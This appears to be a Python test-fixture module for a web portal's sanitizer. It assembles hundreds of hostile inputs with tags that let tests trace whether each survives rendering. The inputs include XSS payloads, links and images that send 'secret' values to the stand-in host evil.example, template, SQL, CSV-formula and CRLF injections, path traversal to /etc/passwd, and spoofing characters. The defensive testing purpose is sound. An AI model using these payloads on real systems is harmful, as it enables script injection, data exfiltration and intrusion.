"""Texts that want to run something, to reach another host, or to pass for what the portal itself writes.

Whatever runs sets `window.hacked` or opens a dialog; whatever is fetched comes from a host below `EVIL`.
"""

import re
from collections.abc import Iterable, Iterator, Sequence
from itertools import product

EVIL = "evil.example"

_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=x", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onloadstart"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("iframe", "onload"),
    ("div contenteditable autofocus tabindex=1", "onfocusin"),
    ("p style=animation-name:x", "onanimationstart"),
    ("object data=x", "onerror"),
    ("button popovertarget=x", "onbeforetoggle"),
)
# How an attribute with a handler can be spelled.
_SPELLINGS = ("<{} {}=hacked=1>", '<{} {}="hacked=1"/>', "<{}/{}=alert(1)//")
_SCHEMES = (
    "javascript:hacked=1",
    "JaVaScRiPt:hacked=1",
    "java\tscript:hacked=1",
    "\x01javascript:hacked=1",
    "javascript&colon;hacked=1",
    "&#106;avascript:hacked=1",
    "data:text/html,<script>hacked=1</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:hacked=1",
    "//evil.example/?q=secret",
    "https:evil.example",
    "https://evil.example\\@localhost/",
)
_LINKS = (
    "[more]({})",
    "![more]({})",
    "<{}>",
    '<a href="{}">more</a>',
    "[more][r]\n\n[r]: {}",
)
_QUOTES = ("'", '"', "`", "' ", '">', "'>", '"/>', "</textarea>", "</title>", "</style>", "</svg>", "-->", "]]>")
_AFTER_QUOTES = ("<img src=x onerror=hacked=1>", " autofocus onfocus=hacked=1 x=")

_SCRIPTS = (
    "<script>hacked=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<scr<script>ipt>hacked=1</scr</script>ipt>",
    "</script><script>hacked=1</script>",
    "<script\x0c>hacked=1</script >",
    "<script/x>hacked=1</script\n>",
    "<<script>alert(1)//<</script>",
    "<script>hacked=1",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<template><script>hacked=1</script></template>",
    "<!--><script>hacked=1</script>-->",
    "<![CDATA[<script>hacked=1</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>hacked=1</script>",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    "&#60;script&#62;hacked=1&#60;/script&#62;",
    "&amp;lt;img src=x onerror=hacked=1&amp;gt;",
    "\\u003cscript\\u003ehacked=1\\u003c/script\\u003e",
    "%3Cscript%3Ehacked=1%3C/script%3E",
    "+ADw-script+AD4-hacked=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ehacked=1\uff1c/script\uff1e",
    "\u02c2script\u02c3hacked=1\u02c2/script\u02c3",
    "<\u200bscript>hacked=1</script>",
    "<scr\u00adipt>hacked=1</scr\u00adipt>",
    "<\u0455cript>hacked=1</\u0455cript>",
    "<\x00script>hacked=1</script>",
    "\u202e>tpircs/<1=dekcah>tpircs<\u202c",
    "\u2066<img src=x onerror=hacked=1>\u2069",
)
_FOREIGN = (
    "<svg><script>hacked=1</script></svg>",
    "<svg><a xlink:href='javascript:hacked=1'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hacked=1>",
    "<svg><use href='https://evil.example/x.svg#x'/></svg>",
    "<svg><image href='https://evil.example/x.png'/></svg>",
    "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=hacked=1></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
    "<math href='javascript:hacked=1'>x</math>",
    "<math><maction actiontype='statusline#https://evil.example'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
)
_FETCHES = (
    "<img src=https://evil.example/?q=secret>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<picture><source srcset=https://evil.example/x.webp><img></picture>",
    "<video poster=https://evil.example/x.png><track src=https://evil.example/x.vtt>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "<input type=image src=https://evil.example/x.png>",
    "<body background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><td>x",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x codebase=https://evil.example></applet>",
    "<portal src=https://evil.example></portal>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/?q=secret>",
    "<link rel=dns-prefetch href=//secret.evil.example>",
    "<link rel=preconnect href=https://evil.example>",
    "<link rel=modulepreload href=https://evil.example/x.js>",
    "<link rel=manifest href=https://evil.example/x.json>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='width:expression(hacked=1)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>Sign in again</p>",
    "<a href=/ ping=https://evil.example/?q=secret>more</a>",
    "<a href=https://evil.example target=_self rel=opener>[1]</a>",
    "<area shape=default href=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button form=composer formaction=https://evil.example>Send</button>",
    "<isindex action=https://evil.example>",
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
)
_MARKDOWN = (
    "![](https://evil.example/?q=secret)",
    "![x][e]\n\n[e]: https://evil.example/?q=secret",
    "![e]\n\n[e]: <https://evil.example/?q=secret> 'x'",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "[1](https://evil.example)",
    "[1](javascript:hacked=1)",
    "[1][e]\n\n[e]: https://evil.example",
    "[1]: https://evil.example",
    "[x](<https://evil.example> 'onmouseover=hacked=1')",
    '[x](https://evil.example/"onmouseover=hacked=1)',
    "https://evil.example/?q=secret",
    "www.evil.example",
    "<mailto:secret@evil.example>",
    "secret@evil.example",
    "`<img src=x onerror=hacked=1>`",
    "\n```html onmouseover=hacked=1\n<script>hacked=1</script>\n```\n",
    '\n~~~"><img src=x onerror=hacked=1>\n<script>hacked=1</script>\n~~~\n',
    "    <script>hacked=1</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=hacked=1> | ![](https://evil.example) |",
    "> <script>hacked=1</script>",
    "# <img src=x onerror=hacked=1>",
    "# ![](https://evil.example)\n===",
    "*<b onmouseover=hacked=1>*</b>",
    "[x]: https://evil.example\n\n[x]",
    "[^1]\n\n[^1]: <img src=x onerror=hacked=1>",
    "{% include '/etc/passwd' %}",
    "{{ request.user.password }}",
    "{{ constructor.constructor('hacked=1')() }}",
    "${hacked=1}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "$$\\href{javascript:hacked=1}{x}$$",
    ":::{.x onclick=hacked=1}\nx\n:::",
)
_OURS = (
    "<citation-mark><a class=cite href=https://evil.example>1</a></citation-mark>",
    "<answer-stream data-stream=https://evil.example/></answer-stream>",
    "<source-panel data-open-label=x></source-panel>",
    "<page-picture highlight=https://evil.example/></page-picture>",
    "<search-box data-suggestions=https://evil.example/></search-box>",
    "<review-desk data-renew=https://evil.example/></review-desk>",
    "<copy-button><a href=https://evil.example data-text=x>Copy</a></copy-button>",
    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div hx-get=/sign-out hx-trigger=load hx-vals='js:{x:hacked=1}'></div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load></div>",
    "<div hx-on::load=hacked=1 hx-on:click=hacked=1></div>",
    "<div hx-disinherit=* hx-ext=https://evil.example></div>",
    "<a data-place data-picture=https://evil.example/x.png href=/>more</a>",
    "<img id=hacked><a id=hacked name=hacked>x</a>",
    "<form id=hacked><input name=attributes></form>",
    "<form name=cookie><img name=body><input id=getElementById>",
    "<div id=main><div id=sources><div id=latest>",
    "<dialog open>Sign in again</dialog>",
    "<div popover=manual id=card-1>x</div>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "[999] [0] [-1] [1e1] [01]",
    "[1] [2] [3] [4] [5] [6] [7] [8]",
    "\u30101\u2020evil.example\u3011",
    "[1](//evil.example)[2](//evil.example)",
    "[\ue0000\ue001] [\ue0001\ue001]",
    "[&#xE000;0&#xE001;] [&#57344;1&#57345;]",
    "\ue0000\ue001 \ue000\ue000 \ue001",
    '\n\nevent: done\ndata: {"answer": "<img src=x onerror=hacked=1>"}\n\n',
    "\revent: error\rdata: {}\r\r",
    "\u2028event: done\u2029data: {}",
    "data: [DONE]",
    '"}\n\n{"answer": "<script>hacked=1</script>',
    '"},"html":"<img src=x onerror=hacked=1>',
    '=HYPERLINK("https://evil.example/?q="&A1,"more")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1|x",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "\x1b]8;;https://evil.example\x1b\\more\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;31mhacked\x07",
    "\x00\x08\x7f\x85",
    "../../../../etc/passwd",
    "..\\..\\secret.txt",
    "'; DROP TABLE chat_answer; --",
    "\r\nSet-Cookie: hacked=1\r\nContent-Type: text/html\r\n\r\n<script>hacked=1</script>",
    'secret.txt"; filename="x.html',
    "\u202egpj.exe\u202c",
    "\ud83d\udc31<img src=x onerror=hacked=1>",
)


def _generated() -> Iterator[str]:
    for (element, handler), spelling in product(_HANDLERS, _SPELLINGS):
        yield spelling.format(element, handler)
    for link, address in product(_LINKS, _SCHEMES):
        yield link.format(address)
    for quote, after in product(_QUOTES, _AFTER_QUOTES):
        yield quote + after


_ALL = tuple(dict.fromkeys([*_SCRIPTS, *_FOREIGN, *_FETCHES, *_MARKDOWN, *_OURS, *_generated()]))
# A database takes no zero byte, and no half of a character.
STORABLE = tuple(text for text in _ALL if not re.search("[\0\ud800-\udfff]", text))
HOSTILE = (*STORABLE, *(text for text in _ALL if text not in STORABLE))


def traced(texts: Sequence[str]) -> list[str]:
    """Each text between two words by which it is known again, wherever and however it is shown."""
    return [f"q{number:03}a {text} q{number:03}z" for number, text in enumerate(texts)]


def traces(text: str) -> set[int]:
    """Numbers of the texts that are whole in what is shown: what a browser takes for markup is not in its text."""
    begun, ended = (set(map(int, re.findall(pattern, text))) for pattern in (r"q(\d{3})a", r"q(\d{3})z"))
    return begun & ended


def packed(texts: Iterable[str], longest: int, joint: str = " ") -> list[str]:
    """As few texts as possible that are no longer than that."""
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + len(joint) + len(text) <= longest:
            packs[-1] += joint + text
        else:
            packs.append(text)
    return packs
